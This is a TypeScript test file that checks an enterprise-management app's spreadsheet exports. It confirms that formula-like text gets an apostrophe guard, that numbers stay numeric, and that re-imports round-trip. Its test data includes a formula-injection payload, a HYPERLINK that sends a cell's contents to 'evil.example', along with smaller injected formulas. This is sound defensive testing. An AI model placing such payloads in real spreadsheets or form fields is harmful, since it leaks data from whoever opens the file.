import { COLUMNS } from '@zonehub/enterprise-sheet';
import { composeUscc } from '@zonehub/uscc';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Client, createTestApp, type TestApp } from './helper.js';
import { uploader } from './sheet-files.js';

/**
 * Every .xlsx export writes text that a spreadsheet would take for a formula (= + - @, tab, CR first)
 * with the apostrophe guard, and numbers as numbers; the enterprise export still imports back unchanged.
 */
let t: TestApp;
let admin: Client;

const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
const guarded = (text: string) => `'${text}`;

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.loginAs('zoneAdmin');
});
afterAll(async () => t.close());

async function sheetsOf(response: LightMyRequestResponse): Promise<ExcelJS.Workbook> {
  expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(response.rawPayload as unknown as ExcelJS.Buffer);
  return book;
}

/** Every cell value of a sheet, by row. */
const valuesOf = (sheet: ExcelJS.Worksheet | undefined) => {
  const rows: ExcelJS.CellValue[][] = [];
  sheet?.eachRow((row) => {
    rows.push(Array.isArray(row.values) ? row.values.slice(1) : []);
  });
  return rows;
};

describe('the formula guard on exports', () => {
  it('guards an enterprise named like a formula, and the export imports back to the same name', async () => {
    const parkId = (
      await t.ctx.db.selectFrom('parks').select('id').where('code', '=', 'central').executeTakeFirstOrThrow()
    ).id;
    const created = await admin.post('/api/v1/enterprises', {
      uscc: composeUscc('91', '140428', 'FXRMULA1'),
      name: LINK,
      legalRepresentative: '+张某',
      registeredCapitalYuan: 5_000_000,
      foundedOn: '2020-05-06',
      parkId,
      industryCode: '3511',
      employees: 40,
    });
    expect(created.statusCode, created.body).toBe(201);

    const exported = await admin.get(`/api/v1/enterprises/export?q=${encodeURIComponent('HYPERLINK')}`);
    const [header, row] = valuesOf((await sheetsOf(exported)).worksheets[0]);
    const at = (key: string) => COLUMNS.findIndex((c) => c.key === key);
    expect(header?.[at('name')]).toBe(COLUMNS[at('name')]?.header);
    expect(row?.[at('name')]).toBe(guarded(LINK));
    expect(row?.[at('legalRepresentative')]).toBe(guarded('+张某'));
    expect(row?.[at('registeredCapital')]).toBe(500);

    const upload = uploader(() => admin, 'back.xlsx');
    const job = (await upload(Buffer.from(exported.rawPayload), '&mode=update')).json<{
      id: string;
      errors: unknown[];
      toUpdate: number;
    }>();
    expect(job.errors).toEqual([]);
    expect(job.toUpdate).toBe(1);
    expect((await admin.post(`/api/v1/enterprise-import/${job.id}/commit`, { mode: 'update' })).statusCode).toBe(202);
    for (let i = 0; i < 200; i++) {
      const state = (await admin.get(`/api/v1/enterprise-import/${job.id}`)).json<{ status: string }>();
      if (state.status !== 'importing') break;
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    const stored = await t.ctx.db
      .selectFrom('enterprises')
      .select(['name', 'legalRepresentative'])
      .where('uscc', '=', composeUscc('91', '140428', 'FXRMULA1'))
      .executeTakeFirstOrThrow();
    expect(stored).toEqual({ name: LINK, legalRepresentative: '+张某' });
  });

  it('guards a lead’s texts and leaves its amounts numbers', async () => {
    const taskForce = await t.ctx.db
      .selectFrom('orgUnits')
      .select('id')
      .where('name', '=', '星萌冻干项目专班')
      .executeTakeFirstOrThrow();
    const created = await admin.post('/api/v1/investment/leads', {
      name: LINK,
      investorName: '-1+1 投资有限公司',
      sourcePerson: '=1+1',
      taskForceId: taskForce.id,
      plannedInvestmentYuan: 256_000_000,
    });
    expect(created.statusCode, created.body).toBe(201);
    const rows = valuesOf(
      (await sheetsOf(await admin.get(`/api/v1/investment/leads/export.xlsx?q=${encodeURIComponent('HYPERLINK')}`)))
        .worksheets[0],
    );
    const [header = [], row = []] = rows;
    const cell = (title: string) => row[header.indexOf(title)];
    expect(cell('项目名称')).toBe(guarded(LINK));
    expect(cell('投资方')).toBe(guarded('-1+1 投资有限公司'));
    expect(cell('信息来源人')).toBe(guarded('=1+1'));
    expect(cell('计划投资（万元）')).toBe(25_600);
    expect(cell('专班')).toBe('星萌冻干项目专班');
  });

  it('guards task-force names in the contest and investment-completed sheets, and usernames in the audit log', async () => {
    const summary = (await admin.get('/api/v1/projects/investment-summary')).json<{
      year: number;
      byTaskForce: { taskForceId: string; name: string }[];
    }>();
    const taskForce = summary.byTaskForce[0];
    expect(taskForce, 'the demo has investment by task force').toBeDefined();
    const hostile = '=1+1专班';
    const renamed = await admin.patch(`/api/v1/admin/org-units/${taskForce?.taskForceId}`, { name: hostile });
    expect(renamed.statusCode, renamed.body).toBe(200);

    const investment = await sheetsOf(await admin.get(`/api/v1/projects/investment-summary.xlsx?year=${summary.year}`));
    expect(valuesOf(investment.getWorksheet('专班')).map((r) => r[0])).toContain(guarded(hostile));
    expect(valuesOf(investment.getWorksheet('专班')).map((r) => r[0])).not.toContain(hostile);

    const contest = await sheetsOf(await admin.get('/api/v1/investment/contest/export.xlsx'));
    const names = valuesOf(contest.getWorksheet('专班排名')).map((r) => r[2]);
    expect(names).toContain(guarded(hostile));
    expect(names).not.toContain(hostile);

    // Anyone can put text in the audit log: a failed sign-in records the username as submitted.
    const attempt = await t.anonymous().post('/api/v1/auth/login', { username: '@SUM(1+1)', password: 'wrong' });
    expect(attempt.statusCode).toBe(401);
    const sysadmin = await t.loginAs('systemAdmin');
    const audit = await sheetsOf(await sysadmin.get('/api/v1/audit-logs/export'));
    const actors = valuesOf(audit.worksheets[0]).map((r) => r[2]);
    expect(actors).toContain(guarded('@SUM(1+1)'));
    expect(actors).not.toContain('@SUM(1+1)');
  });
});
